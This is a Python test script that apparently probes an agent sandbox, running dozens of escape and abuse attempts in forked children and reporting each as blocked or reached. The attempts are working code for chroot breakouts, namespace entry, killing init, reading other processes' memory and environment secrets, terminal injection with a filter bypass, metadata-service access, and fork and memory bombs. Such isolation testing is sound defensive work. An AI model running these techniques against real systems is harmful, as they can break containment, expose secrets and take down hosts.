"""Attempts to get out of a sandbox or to do harm from inside one, by family.

Run inside: ``python3 attempts.py FACTS.json [NAME ...]``. Each attempt runs in a forked child and gives one line:
``BLOCKED name detail`` when an error stopped it, ``REACHED name detail`` when it got what it wanted, ``BROKEN name``
when it could not even be made. FACTS tells what the host has planted. Standard library only, and old Python's too.
"""
# ruff: noqa: UP031, SIM115

import ctypes
import errno
import json
import os
import resource
import select
import signal
import socket
import stat
import subprocess
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = ctypes.c_long
ARM = os.uname().machine == "aarch64"
ATTEMPTS = {}
FACTS = {}


class Blocked(Exception):
    """The attempt was stopped in a way that is no OSError."""


def attempt(function):
    ATTEMPTS[function.__name__] = function
    return function


def syscall(x86, arm, *arguments):
    """Make a raw system call; raise OSError as libc would."""
    number = arm if ARM else x86
    if number is None:
        raise Blocked("no such call on this machine")
    values = [ctypes.c_long(value) if isinstance(value, int) else value for value in arguments]
    result = LIBC.syscall(ctypes.c_long(number), *values)
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def canary(text):
    if FACTS["secret"] not in text:
        raise Blocked("not the canary")
    return "the canary was read"


# -- F: files of the host


@attempt
def file_read():
    return canary(open(FACTS["canary"]).read())


@attempt
def file_read_through_pid_1():
    return canary(open("/proc/1/root" + FACTS["canary"]).read())


@attempt
def file_read_through_a_link():
    os.symlink(FACTS["canary"], "link-to-canary")
    return canary(open("link-to-canary").read())


@attempt
def file_hard_link():
    os.link(FACTS["canary"], "hard-link")
    return "linked"


@attempt
def file_read_climbing_up():
    return canary(open("/workspace/output/" + "../" * 20 + FACTS["canary"].lstrip("/")).read())


@attempt
def file_read_through_open_descriptors():
    tried = 0
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        try:
            names = os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for name in names:
            tried += 1
            try:
                folder = os.open("/proc/%s/fd/%s" % (pid, name), os.O_RDONLY | os.O_DIRECTORY)
                file = os.open("../" * 10 + FACTS["canary"].lstrip("/"), os.O_RDONLY, dir_fd=folder)
            except OSError:
                continue
            return canary(os.read(file, 100).decode())
    raise Blocked("%d descriptors tried" % tried)


@attempt
def file_overwrite():
    os.close(os.open(FACTS["canary"], os.O_WRONLY | os.O_APPEND))
    return "opened for writing"


@attempt
def file_create_in_the_source_root():
    open("/workspace/src/new.py", "w").close()
    return "created"


@attempt
def file_change_the_source():
    os.chmod(FACTS["own_source"], 0o666)
    open(FACTS["own_source"], "a").close()
    return "opened for writing"


@attempt
def file_replace_the_source_root():
    os.rename("/workspace/src", "/workspace/old")
    return "renamed"


@attempt
def file_create_beside_the_areas():
    open("/workspace/sibling", "w").close()
    return "created"


@attempt
def file_write_in_the_interpreter():
    open(os.path.join(os.path.dirname(os.__file__), "sitecustomize.py"), "a").close()
    return "opened for writing"


@attempt
def file_write_in_the_guest_programs():
    open("/run/agently/guest/shell.py", "a").close()
    return "opened for writing"


@attempt
def file_write_in_the_home_of_the_host():
    open(os.path.join(FACTS["home"], ".probe"), "w").close()
    return "created"


@attempt
def file_see_host_tmp():
    seen = [path for path in FACTS["temporary"] if os.path.exists(path)]
    if not seen:
        raise Blocked("none of %d is there" % len(FACTS["temporary"]))
    return " ".join(seen)


@attempt
def file_see_another_session():
    return canary(open(FACTS["other_session"]).read())


@attempt
def file_open_by_handle():
    handle = ctypes.create_string_buffer(136)
    handle[0:4] = (128).to_bytes(4, "little")
    mount = ctypes.c_int()
    syscall(303, 264, -100, ctypes.c_char_p(b"/workspace/src"), handle, ctypes.byref(mount), 0)
    folder = os.open("/workspace/src", os.O_RDONLY)
    return "descriptor %d" % syscall(304, 265, folder, handle, os.O_RDONLY)


@attempt
def file_make_a_disk_device():
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(*FACTS["disk"]))
    os.close(os.open("disk", os.O_RDONLY))
    return "the disk was opened"


@attempt
def file_break_out_of_a_chroot():
    top = os.open("/", os.O_RDONLY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.fchdir(top)
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    return canary(open(FACTS["canary"]).read())


@attempt
def file_remount_the_source_writable():
    syscall(165, 40, ctypes.c_char_p(b"none"), ctypes.c_char_p(b"/workspace/src"), ctypes.c_char_p(b""), 0x1020,
            ctypes.c_char_p(b""))
    return "remounted"


@attempt
def file_new_mount_interface():
    return "context %d" % syscall(430, 430, ctypes.c_char_p(b"tmpfs"), 0)


@attempt
def file_clone_a_mount_tree():
    return "tree %d" % syscall(428, 428, -100, ctypes.c_char_p(b"/workspace/src"), 1)


@attempt
def file_write_the_running_interpreter():
    os.close(os.open("/proc/self/exe", os.O_WRONLY))
    return "opened for writing"


@attempt
def file_mount_a_cgroup():
    os.makedirs("groups", exist_ok=True)
    syscall(165, 40, ctypes.c_char_p(b"none"), ctypes.c_char_p(b"groups"), ctypes.c_char_p(b"cgroup"), 0,
            ctypes.c_char_p(b"memory"))
    return "mounted"


@attempt
def file_container_engine_sockets():
    reached = []
    for path in FACTS["sockets"]:
        with socket.socket(socket.AF_UNIX) as client:
            try:
                client.connect(path)
                reached.append(path)
            except OSError:
                pass
    if not reached:
        raise Blocked("none of %d answers" % len(FACTS["sockets"]))
    return " ".join(reached)


# -- P: processes


@attempt
def process_signal_the_host():
    os.kill(FACTS["pid"], 0)
    os.kill(FACTS["pid"], signal.SIGUSR1)
    return "signalled"


@attempt
def process_descriptor_of_the_host():
    return "descriptor %d" % syscall(434, 434, FACTS["pid"], 0)


@attempt
def process_read_memory_of_init():
    data = ctypes.create_string_buffer(8)

    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]

    local, remote = Vector(ctypes.addressof(data), 8), Vector(0x400000, 8)
    return "%d bytes" % syscall(310, 270, 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)


@attempt
def process_read_descriptors_of_init():
    return " ".join(os.listdir("/proc/1/fd"))


@attempt
def process_open_the_channel_of_init():
    for number in range(256):
        try:
            return "opened %d" % os.open("/proc/1/fd/%d" % number, os.O_WRONLY | os.O_NONBLOCK)
        except OSError as error:
            last = error
    raise last


@attempt
def process_enter_namespaces():
    for pid in (FACTS["pid"], 1):
        for name, flag in (("net", 0x40000000), ("mnt", 0x20000), ("user", 0x10000000), ("pid", 0x20000000)):
            try:
                file = os.open("/proc/%d/ns/%s" % (pid, name), os.O_RDONLY)
                syscall(308, 268, file, flag)
                return "entered %s of %d" % (name, pid)
            except OSError as error:
                last = error
    raise last


@attempt
def process_kill_init():
    os.kill(1, signal.SIGKILL)
    os.kill(1, signal.SIGSTOP)
    time.sleep(0.05)
    if open("/proc/1/stat").read().rpartition(")")[2].split()[0] == "T":
        return "init is stopped"
    raise Blocked("init lives")


@attempt
def process_real_time_priority():
    for policy in (os.SCHED_FIFO, os.SCHED_RR):
        try:
            os.sched_setscheduler(0, policy, os.sched_param(1))
            return "real-time"
        except OSError:
            pass
    os.nice(-5)
    return "a lower nice value"


@attempt
def process_raise_limits():
    for name in ("NOFILE", "FSIZE", "CORE", "DATA"):
        kind = getattr(resource, "RLIMIT_" + name)
        hard = resource.getrlimit(kind)[1]
        if hard == resource.RLIM_INFINITY:
            return "%s is not limited" % name
        try:
            resource.setrlimit(kind, (hard, hard * 2 + 64))
            return "%s was raised" % name
        except (OSError, ValueError):
            pass
    raise Blocked("all four stay")


@attempt
def process_host_shared_memory():
    return "segment %d" % syscall(29, 194, FACTS["shm_key"], 0, 0)


@attempt
def process_inherited_descriptors():
    names = [name for name in os.listdir("/proc/self/fd") if name not in ("0", "1", "2")]
    found = [os.readlink("/proc/self/fd/" + name) for name in names]
    found = [link for link in found if not link.startswith(("/proc", "pipe:", "/dev/null", "/workspace"))]
    if not found:
        raise Blocked("nothing but our own")
    return " ".join(found)


# -- S: privileges


@attempt
def privilege_set_uid_program():
    program = FACTS["set_uid_program"]
    if not os.stat(program).st_mode & stat.S_ISUID:
        return "its bit is gone, which proves nothing"
    answer = subprocess.run([program, "-u"], stdout=subprocess.PIPE, text=True, check=True)
    if answer.stdout.strip() == "0":
        return "euid 0"
    if not os.statvfs(program).f_flag & os.ST_NOSUID or not os.statvfs("/usr/bin").f_flag & os.ST_NOSUID:
        return "set-uid programs are honoured here"
    raise Blocked("euid " + answer.stdout.strip())


@attempt
def privilege_become_root():
    os.setuid(0)
    return "uid 0"


@attempt
def privilege_user_namespace():
    syscall(272, 97, 0x10000000)
    return "made"


@attempt
def privilege_user_namespace_by_clone():
    pid = syscall(56, 220, 0x10000000 | 0x20000 | 17, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "made"


@attempt
def privilege_user_namespace_by_clone3():
    arguments = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, signal.SIGCHLD)
    pid = syscall(435, 435, ctypes.byref(arguments), 88)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return "made"


@attempt
def privilege_other_namespaces():
    for flag in (0x20000, 0x40000000, 0x04000000, 0x08000000, 0x02000000, 0x20000000, 0x80):
        try:
            syscall(272, 97, flag)
            return "made %x" % flag
        except OSError as error:
            last = error
    raise last


@attempt
def privilege_uid_map():
    open("/proc/self/uid_map", "wb", buffering=0).write(b"0 0 1")
    return "written"


@attempt
def privilege_chroot():
    os.chroot("/tmp")
    return "done"


@attempt
def privilege_host_name():
    syscall(170, 161, ctypes.c_char_p(b"sandbox"), 7)
    return "set"


@attempt
def privilege_clock():
    syscall(227, 112, 0, (ctypes.c_long * 2)(0, 2 * 10**9))
    return "set"


@attempt
def privilege_kernel_module():
    syscall(175, 105, ctypes.c_char_p(b"\x7fELF"), 4, ctypes.c_char_p(b""))
    return "loaded"


@attempt
def privilege_io_ports():
    syscall(172, None, 3)
    return "allowed"


@attempt
def privilege_kernel_settings():
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/pid_max", "/proc/sys/vm/overcommit_memory"):
        try:
            old = open(path, "rb").read()
            open(path, "wb", buffering=0).write(old)
            return path
        except OSError as error:
            last = error
    raise last


@attempt
def privilege_watch_the_whole_machine():
    os.close(os.open("/proc/pressure/memory", os.O_RDWR))
    return "opened for writing"


@attempt
def privilege_leave_a_set_uid_file():
    open("/workspace/output/set-uid", "w").close()
    os.chmod("/workspace/output/set-uid", 0o6755)
    raise Blocked("left for the host to judge")


# -- Y: system calls


def denied(name, x86, arm, *arguments):
    """Register an attempt at one system call that must be refused before the kernel looks at its arguments."""

    def call():
        return "returned %d" % syscall(x86, arm, *arguments)

    call.__name__ = "call_" + name
    attempt(call)


denied("ptrace_traceme", 101, 117, 0, 0, 0, 0)
denied("perf_event_open", 298, 241, ctypes.create_string_buffer(b"\1\0\0\0p\0\0\0", 112), 0, -1, -1, 0)
denied("io_uring_setup", 425, 425, 8, ctypes.create_string_buffer(120))
denied("add_key", 248, 217, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"k"), ctypes.c_char_p(b"v"), 1, -2)
denied("keyctl", 250, 219, 0, -3, 1)
denied("bpf", 321, 280, 0, ctypes.create_string_buffer(120), 120)
denied("userfaultfd", 323, 282, 1)
denied("fanotify_init", 300, 262, 0x200, 0)
denied("kcmp", 312, 272, os.getpid(), os.getpid(), 1, 0, 0)
denied("process_vm_writev", 311, 271, os.getpid(), None, 0, None, 0, 0)
denied("personality", 135, 92, 0x0040000)
denied("modify_ldt", 154, None, 0, ctypes.create_string_buffer(16), 16)
denied("move_pages", 279, 239, 0, 0, None, None, None, 0)
denied("mbind", 237, 235, 0, 0, 0, None, 0, 0)
denied("acct", 163, 89, None)
denied("swapon", 167, 224, ctypes.c_char_p(b"/workspace/build/x"), 0)
denied("quotactl", 179, 60, 0x800001, None, 0, None)
denied("syslog", 103, 116, 10, None, 0)
denied("reboot", 169, 142, 0, 0, 0, None)
denied("kexec_load", 246, 104, 0, 0, None, 0)
denied("memfd_secret", 447, 447, 0)
denied("pidfd_getfd", 438, 438, 0, 0, 0)
denied("io_setup", 206, 0, 1024, ctypes.create_string_buffer(8))


@attempt
def call_unknown_number():
    try:
        return "returned %d" % syscall(0x40000000 | 39, 1200)
    except OSError as error:
        if error.errno != errno.ENOSYS:
            return "refused with %s" % errno.errorcode[error.errno]
        raise


@attempt
def call_32_bit_entry():
    if ARM:
        raise Blocked("no such entry on this machine")
    code = b"\xb8\x14\x00\x00\x00\xcd\x80\xc3"  # mov eax, getpid; int 0x80; ret
    import mmap

    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    entry = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    result = entry()
    if result < 0:
        raise Blocked(errno.errorcode.get(-result, str(result)))
    return "returned %d" % result


@attempt
def call_terminal_injection():
    for request in (0x5412, 0x5412 | 1 << 32):  # the second form has been overlooked by filters of 64 bits
        try:
            _main, terminal = os.openpty()
            syscall(16, 29, terminal, request, ctypes.c_char_p(b"x"))
            return "injected by %x" % request
        except OSError as error:
            last = error
    raise last


@attempt
def call_another_line_discipline():
    _main, terminal = os.openpty()
    for number in (27, 13, 21, 1):  # the host would load a module for one that it has not got
        try:
            syscall(16, 29, terminal, 0x5423, ctypes.byref(ctypes.c_int(number)))
            return "set to %d" % number
        except OSError as error:
            if error.errno != errno.EPERM:
                return "asked for"
    raise error_of(errno.EPERM)


def error_of(code):
    return OSError(code, os.strerror(code))


def sockets(family, cases):
    """Name the sockets that can be made, or whose refusal says that the host's kernel was asked for a module."""
    made = []
    for kind, protocol in cases:
        try:
            socket.socket(family, kind, protocol).close()
        except OSError as error:
            if error.errno in (errno.EPROTONOSUPPORT, errno.EPERM):
                continue
        made.append("%d/%d" % (kind, protocol))
    if made:
        return " ".join(made)
    raise Blocked("none of %d" % len(cases))


@attempt
def call_sockets_of_odd_protocols():
    return sockets(socket.AF_INET, [(kind, number) for kind in (1, 2, 5, 6) for number in (33, 132, 136, 262)])


@attempt
def call_sockets_of_odd_types():
    return sockets(socket.AF_INET6, [(5, 0), (6, 0), (10, 0)])


@attempt
def call_netlink_of_firewalls_and_devices():
    return sockets(16, [(3, number) for number in (4, 6, 9, 11, 12, 15, 16)])


@attempt
def call_without_a_filter():
    status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
    if status["Seccomp"].strip() == "2":
        raise Blocked("mode 2")
    return "mode " + status["Seccomp"].strip()


# -- N: network


@attempt
def network_loopback_tcp():
    with socket.create_connection(("127.0.0.1", FACTS["tcp_port"]), timeout=2):
        return "connected"


@attempt
def network_loopback_udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.settimeout(0.5)
        client.sendto(b"?", ("127.0.0.1", FACTS["udp_port"]))
        return canary(client.recv(100).decode())


@attempt
def network_route_to_metadata():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        client.connect(("169.254.169.254", 80))
        return "a route"


@attempt
def network_name_lookup():
    return str(socket.getaddrinfo("example.org", 80))


@attempt
def network_abstract_socket():
    with socket.socket(socket.AF_UNIX) as client:
        client.connect("\0" + FACTS["abstract"])
        return "connected"


def family(name, number, kind=socket.SOCK_STREAM, protocol=0):
    """Register an attempt to make a socket of a family that no sandbox has a use for."""

    def make():
        socket.socket(number, kind, protocol).close()
        return "made"

    make.__name__ = "network_" + name
    attempt(make)


family("vsock", 40)
family("packet", 17, socket.SOCK_RAW)
family("raw_ip", socket.AF_INET, socket.SOCK_RAW, 1)
family("kernel_crypto", 38, socket.SOCK_SEQPACKET)
family("bluetooth", 31, socket.SOCK_RAW, 1)
family("can", 29, socket.SOCK_RAW, 1)
family("tipc", 30)
family("xdp", 44, socket.SOCK_RAW)
family("key", 15, socket.SOCK_RAW, 2)


# -- E: environment


@attempt
def environment_secrets_of_any_process():
    seen = 0
    for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
        for name in ("environ", "cmdline"):
            try:
                data = open("/proc/%s/%s" % (pid, name), "rb").read().decode("utf-8", "replace")
            except OSError:
                continue
            seen += 1
            if FACTS["secret"] in data:
                return "found in %s of %s" % (name, pid)
    if not seen:
        return "nothing could be looked at, which proves nothing"
    raise Blocked("%d places" % seen)


@attempt
def environment_host_name():
    if os.uname().nodename == FACTS["host_name"]:
        return os.uname().nodename
    raise Blocked(os.uname().nodename)


@attempt
def environment_machine_id():
    for path in ("/etc/machine-id", "/var/lib/dbus/machine-id"):
        if os.path.exists(path):
            return path
    raise Blocked("none")


@attempt
def environment_host_users():
    names = {line.split(":")[0] for line in open("/etc/passwd")} - {"root", "sandbox", "nobody"}
    if names:
        return " ".join(sorted(names))
    raise Blocked("none")


@attempt
def environment_host_paths_in_the_mount_table():
    table = open("/proc/self/mountinfo").read()
    if FACTS["workspace"] in table:
        return "the workspace's path"
    raise Blocked("%d mounts" % len(table.splitlines()))


@attempt
def environment_core_dumps():
    if resource.getrlimit(resource.RLIMIT_CORE) == (0, 0):
        raise Blocked("size 0")
    return "possible"


# -- D: resources


@attempt
def resource_fill_output():
    return fill("/workspace/output/fill", FACTS["output_mib"])


@attempt
def resource_fill_scratch():
    return fill("/workspace/build/fill", FACTS["scratch_mib"])


@attempt
def resource_fill_tmp():
    return fill("/tmp/fill", FACTS["scratch_mib"])


@attempt
def resource_fill_dev():
    return fill("/dev/fill", 1)


def fill(path, most):
    files, written, block = [], 0, b"x" * (1 << 20)
    try:
        while written <= most:
            files.append(open("%s%d" % (path, len(files)), "wb", buffering=0))
            for _ in range(8):
                written += files[-1].write(block) >> 20
    finally:
        for file in files:
            os.unlink(file.name)
            file.close()
    return "%d MiB" % written


@attempt
def resource_one_big_file():
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
    with open("big", "wb", buffering=0) as file:
        file.seek(FACTS["file_mib"] << 20)
        file.write(b"x")
    return "written"


@attempt
def resource_many_descriptors():
    kept = [os.dup(0) for _ in range(4096)]
    return "%d" % len(kept)


@attempt
def resource_signals_of_the_user():
    signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
    information = ctypes.create_string_buffer((-1).to_bytes(12, "little", signed=True), 128)
    information[0:12] = signal.SIGRTMIN.to_bytes(4, "little") + bytes(4) + b"\xff" * 4
    for _ in range(10000):
        syscall(129, 138, os.getpid(), signal.SIGRTMIN, information)
    return "10000 are pending"


@attempt
def resource_queues_of_the_user():
    limit = resource.getrlimit(resource.RLIMIT_MSGQUEUE)[1]
    if 0 <= limit < 819200:
        raise Blocked("%d bytes" % limit)
    return "%d bytes" % limit


@attempt
def resource_fork_bomb():
    pids = []
    try:
        for _ in range(FACTS["processes"] + 50):
            pid = os.fork()
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            pids.append(pid)
    finally:
        for pid in pids:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
    return "%d processes" % len(pids)


@attempt
def resource_memory_of_many():
    pipes = []
    for _ in range(6):
        reading, writing = os.pipe()
        pid = os.fork()
        if pid == 0:
            hoard = bytearray(FACTS["memory_mib"] // 3 << 20)
            hoard[::4096] = b"x" * len(hoard[::4096])
            os.write(writing, b"k")
            time.sleep(2)
            os._exit(0)
        os.close(writing)
        pipes.append((pid, reading))
    held = sum(os.read(reading, 1) == b"k" for _, reading in pipes)
    alive = sum(os.waitpid(pid, os.WNOHANG) == (0, 0) for pid, _ in pipes)
    for pid, _ in pipes:
        try:
            os.kill(pid, signal.SIGKILL)
            os.waitpid(pid, 0)
        except OSError:
            pass
    if held < 6 or alive < 6:
        raise Blocked("%d of 6 got it, %d lived" % (held, alive))
    return "twice the limit is held"


def run(name):
    """Run one attempt in a child and return its line."""
    reading, writing = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(reading)
        try:
            line = "REACHED %s %s" % (name, ATTEMPTS[name]())
        except Blocked as blocked:
            line = "BLOCKED %s %s" % (name, blocked)
        except (OSError, MemoryError, RuntimeError) as error:
            code = getattr(error, "errno", None)
            line = "BLOCKED %s %s" % (name, errno.errorcode.get(code) if code else type(error).__name__)
        except BaseException as error:
            line = "BROKEN %s %r" % (name, error)
        os.write(writing, line.encode("utf-8", "replace")[:500])
        os._exit(0)
    os.close(writing)
    data = b""
    if select.select([reading], [], [], 30)[0]:
        data = os.read(reading, 1000)
    else:
        os.kill(pid, signal.SIGKILL)
    status = os.waitpid(pid, 0)[1]
    os.close(reading)
    if data:
        return data.decode("utf-8", "replace").replace("\n", " ")
    if os.WIFSIGNALED(status):
        return "BLOCKED %s killed by signal %d" % (name, os.WTERMSIG(status))
    return "BROKEN %s no answer" % name


def main():
    FACTS.update(json.load(open(sys.argv[1])), own_source=os.path.abspath(__file__))
    for name in sys.argv[2:] or list(ATTEMPTS):
        print(run(name), flush=True)
    print("END", len(ATTEMPTS), FACTS["nonce"], flush=True)


if __name__ == "__main__":
    main()
